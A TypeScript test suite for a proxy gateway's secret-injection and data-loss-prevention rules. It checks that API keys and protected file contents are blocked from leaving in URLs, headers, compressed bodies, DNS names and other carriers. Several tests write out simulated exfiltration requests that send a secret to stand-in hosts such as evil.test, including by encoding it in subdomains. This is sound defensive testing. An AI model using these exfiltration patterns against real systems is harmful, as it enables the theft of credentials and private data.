import { randomBytes } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { Rule } from '../../../src/gateway/config.ts';
import { crc62Of } from '../../../src/gateway/dlp/rules/checks.ts';
import { SECURE_PORTS } from './support/secure-origins.ts';
import { GATEWAY, World, type TestGateway } from './support/world.ts';

/** Secrets: lent to the requests of one rule, kept out of answers, and found in outgoing data. */

const KEY = `sk-test-${randomBytes(18).toString('base64url')}`;
const PLACEHOLDER = `sk-test-${randomBytes(18).toString('base64url')}`;
const FILED = `pa55-${randomBytes(12).toString('hex')}`;
const PORT = SECURE_PORTS.both;
/** Longer than lines of the log wait for others to share a write. */
const A_WHILE_MS = 200;

const BY_DETECTOR = { secret: 'block', canary: 'block', pattern: 'warn', undecodable: 'pass' } as const;

let world: World;
let gateway: TestGateway;

beforeAll(async () => {
  world = await World.open();
  const rule = { port: PORT, scheme: 'https', opensTls: true, dlp: 'block' } as const;
  const inject = { secret: 'the key', slot: { kind: 'header', name: 'x-api-key' } } as const;
  const allow: Rule[] = [
    { ...rule, id: 'with identity', host: 'allowed.test', inject },
    { ...rule, id: 'without', host: 'other.test' },
    { ...rule, id: 'warns', host: 'x.wild.test', dlp: 'warn' },
    { ...rule, id: 'wild', host: '*.wild.test' },
    { ...rule, id: 'by detector', host: 'y.wild.test', dlp: BY_DETECTOR },
    { id: 'plain', host: 'other.test', port: 80, scheme: 'http', dlp: 'block' },
  ];
  gateway = await world.startGateway([], {
    config: {
      policy: { allow, deny: [] },
      secretRules: { rules: [{ id: 'acme', regex: 'ACME-[0-9]{8}', keywords: ['acme-'] }], allowlists: [] },
    },
    secrets: {
      inject: { 'the key': { value: KEY, placeholder: PLACEHOLDER } },
      protect: [{ name: '.env: PASSWORD', value: FILED, kind: 'secret' }],
    },
  });
});

afterAll(async () => {
  await gateway?.stop();
  await world?.close();
});

const to = (host: string, path = '/'): string => `https://${host}:${PORT}${path}`;

async function curl(...args: readonly string[]) {
  const from = world.heard.length;
  const said = await gateway.curl(
    '--no-insecure',
    '--cacert',
    gateway.authorityPath,
    '--proxy',
    `http://${GATEWAY}:3128`,
    ...args,
  );
  const heard = await world.heardSince(from);
  return { ...said, requests: heard.filter(({ kind }) => kind.startsWith('request')) };
}

async function resolved(name: string): Promise<string> {
  const script =
    `const r = new (require('dns').Resolver)({ tries: 1, timeout: 10000 }); r.setServers(['${GATEWAY}']);` +
    `r.resolve('${name}', 'A', (e, a) => console.log(e?.code ?? JSON.stringify(a)))`;
  return (await gateway.inBottle(['node', '-e', script])).stdout.trim();
}

describe.each(['--http1.1', '--http2'])('an identity, over %s', (version) => {
  test('is put into its slot, in the place of the placeholder, and of any other', async () => {
    for (const sent of [PLACEHOLDER, 'sk-test-of-the-attacker']) {
      const headers = ['--header', `x-api-key: ${sent}`, '--header', 'authorization: Bearer attacker'];
      const { status, requests } = await curl(version, ...headers, to('allowed.test'));
      expect(status).toBe(200);
      const [request] = requests;
      expect(JSON.stringify(request)).toContain(KEY);
      expect(JSON.stringify(request)).not.toMatch(/attacker/);
    }
  });

  test('does not come back, though the host echoes what it gets', async () => {
    const { status, body } = await curl(version, to('allowed.test', '/what-came'));
    expect(status).toBe(200);
    expect(body).toContain('x-api-key');
    expect(body).not.toContain(KEY);
    expect(body).toContain('*'.repeat(KEY.length));
  });

  test('is nobody else’s: neither it nor its placeholder leaves anywhere else', async () => {
    const tries = [
      ['--header', `x-api-key: ${PLACEHOLDER}`, to('other.test')],
      ['--header', `x-note: ${PLACEHOLDER}`, to('allowed.test')],
      [to('allowed.test', `/?q=${PLACEHOLDER}`)],
      ['--data', `{"say":"${PLACEHOLDER}"}`, to('allowed.test')],
      ['--data', Buffer.from(KEY).toString('base64'), to('other.test')],
    ];
    for (const args of tries) {
      const { status, body, requests } = await curl(version, ...args);
      expect([status, requests, args]).toEqual([403, [], args]);
      expect(JSON.parse(body)).toMatchObject({ error: 'denied_by_content' });
      expect(body).not.toContain(KEY);
    }
  });
});

describe('what a protected file holds', () => {
  const forms: Record<string, readonly string[]> = {
    'in the URL': [to('other.test', `/${FILED}`)],
    'in a header': ['--header', `x-a: ${Buffer.from(FILED).toString('hex')}`, to('other.test')],
    'in a body': ['--data', `a=${FILED}`, to('other.test')],
    'in chunks': ['--header', 'Transfer-Encoding: chunked', '--data', `a=${FILED}`, to('other.test')],
    'over plain HTTP': ['--data', FILED, 'http://other.test/'],
  };

  test.each(Object.entries(forms))('does not leave %s', async (_, args) => {
    const { status, requests } = await curl('--http1.1', ...args);
    expect({ status, requests }).toEqual({ status: 403, requests: [] });
  });

  test.each(['--http1.1', '--http2'])(
    'does not leave compressed, or late in a long body: %s',
    async (version) => {
      const zipped = join(world.folder, 'zipped');
      writeFileSync(zipped, gzipSync(`{"password":"${FILED}"}`));
      const first = await curl(
        version,
        '--header',
        'Content-Encoding: gzip',
        '--data-binary',
        `@${zipped}`,
        to('other.test'),
      );
      expect({ status: first.status, requests: first.requests }).toEqual({ status: 403, requests: [] });

      const long = join(world.folder, 'long');
      writeFileSync(long, `${'harmless text '.repeat(60_000)}${FILED}${' and more'.repeat(1_000)}`);
      const second = await curl(version, '--data-binary', `@${long}`, to('other.test'));
      expect({ status: second.status, requests: second.requests }).toEqual({ status: 403, requests: [] });
    },
  );

  test('may leave where the rule only warns, and the log says so without saying what', async () => {
    const { status, requests } = await curl('--http2', '--data', FILED, to('x.wild.test'));
    expect(status).toBe(200);
    expect(requests).toHaveLength(1);
    const logged = gateway.decisions.find(({ rule }) => rule === 'warns');
    expect(logged?.findings).toMatchObject([{ detector: 'secret', id: '.env: PASSWORD', where: 'body' }]);
  });
});

test('a name that tells a secret is asked nowhere', async () => {
  for (const host of [`${FILED}.wild.test`, `a.${FILED.slice(0, 15)}.${FILED.slice(15)}.wild.test`]) {
    const from = world.heard.length;
    expect((await gateway.curl('--proxy', `http://${GATEWAY}:3128`, to(host))).status).toBe(403);
    expect((await world.heardSince(from)).map(({ kind }) => kind)).toEqual([]);
  }
  expect(await resolved(`${FILED}.wild.test`)).toBe('ENOTFOUND');
  const pieces = [FILED.slice(0, 15), FILED.slice(15)];
  const answers = [];
  for (const piece of pieces) answers.push(await resolved(`${piece}.wild.test`));
  expect(answers).toContain('ENOTFOUND');
  expect(await resolved('other.wild.test')).toBe(`["${GATEWAY}"]`);
  const withheld = gateway.decisions.filter(({ host }) => host === '(withheld)');
  expect(new Set(withheld.map(({ via }) => via))).toEqual(new Set(['connect', 'dns']));
  const from = world.heard.length;
  await gateway.curl('--proxy', `http://${GATEWAY}:3128`, to('control.wild.test'));
  expect(await world.heardSince(from, 'dns')).not.toEqual([]);
});

test('what looks like a secret to a rule, a pinned one or the user’s own, does not leave either', async () => {
  const body = randomBytes(15).toString('hex');
  const token = `ghp_${body}${crc62Of(body)}`;
  for (const text of [token, 'ACME-12345678', Buffer.from(`key=${token}`).toString('base64')]) {
    const { status, requests } = await curl('--http2', '--data', text, to('other.test'));
    expect([status, requests, text]).toEqual([403, [], text]);
  }
});

describe('where a rule says it by what is found', () => {
  const encoded = ['--header', 'Content-Encoding: gzip'];

  test('what only looks like a secret leaves, and is in the log', async () => {
    const { status, requests } = await curl('--http2', '--data', 'ACME-12345678', to('y.wild.test'));
    expect([status, requests.length]).toEqual([200, 1]);
    const logged = gateway.decisions.find(({ rule }) => rule === 'by detector');
    expect(logged?.findings).toMatchObject([{ detector: 'pattern', id: 'acme', where: 'body' }]);
  });

  test.each(['--http1.1', '--http2'])(
    'content that the gateway cannot inspect leaves as it came: %s',
    async (version) => {
      const garbage = ['--data', 'no gzip at all'];
      const refused = await curl(version, ...encoded, ...garbage, to('other.test'));
      expect([refused.status, refused.requests]).toEqual([403, []]);
      const passed = await curl(version, ...encoded, ...garbage, to('y.wild.test'));
      expect([passed.status, passed.requests]).toMatchObject([200, [{ bytes: 14 }]]);
      const logged = gateway.decisions.filter(({ rule }) => rule === 'by detector');
      expect(logged.at(-1)?.findings).toMatchObject([
        { detector: 'undecodable', id: 'broken', encoding: 'gzip' },
      ]);
    },
  );

  test('what is known to be secret does not, plain or compressed', async () => {
    const plain = await curl('--http2', '--data', FILED, to('y.wild.test'));
    const zipped = join(world.folder, 'zipped-too');
    writeFileSync(zipped, gzipSync(`password: ${FILED}`));
    const hidden = await curl('--http2', ...encoded, '--data-binary', `@${zipped}`, to('y.wild.test'));
    expect([plain, hidden].map(({ status, requests }) => [status, requests])).toEqual([
      [403, []],
      [403, []],
    ]);
  });
});

test('long bodies without secrets arrive whole (control)', async () => {
  const path = join(world.folder, 'clean');
  writeFileSync(path, randomBytes(3_000_000).toString('hex'));
  for (const version of ['--http1.1', '--http2']) {
    const { status, body, requests } = await curl(version, '--data-binary', `@${path}`, to('other.test'));
    if (status !== 200) throw new Error(body);
    expect([status, requests]).toMatchObject([200, [{ bytes: 6_000_000 }]]);
  }
});

describe('a refusal for something else', () => {
  const carriers: Record<string, readonly string[]> = {
    host: [`http://${FILED}.evil.test/`],
    path: [`http://evil.test/a/${FILED}`],
    reason: ['--header', `Host: ${FILED}.evil.test`, to('other.test')],
    'header name': ['--header', `X-${FILED}: a`, to('other.test')],
  };

  /** Lines of refusals wait a moment for others to share a write. */
  const placesFound = async (from: number): Promise<readonly string[]> => {
    const since = (): typeof gateway.decisions => gateway.decisions.slice(from);
    await expect.poll(() => since().length).toBeGreaterThan(0);
    return since().flatMap(({ findings = [] }) => findings.map(({ where }) => where));
  };

  test.each(Object.entries(carriers))('names what it found in the %s', async (where, args) => {
    await sleep(A_WHILE_MS);
    const from = gateway.decisions.length;
    const { status, requests } = await curl('--http1.1', ...args);
    expect([Math.floor(status / 100), requests]).toEqual([4, []]);
    expect(await placesFound(from)).toContain(where);
  });

  test('names what a name that is asked for holds', async () => {
    await sleep(A_WHILE_MS);
    const from = gateway.decisions.length;
    expect(await resolved(`${FILED}.evil.test`)).toBe('ENOTFOUND');
    expect(await placesFound(from)).toContain('host');
  });
});

test('the log holds neither the key nor what is in the file', () => {
  const text = JSON.stringify(gateway.log).toLowerCase();
  expect(text).not.toContain(KEY.toLowerCase());
  expect(text).not.toContain(FILED);
  expect(text).toContain('gateway.dlp');
});
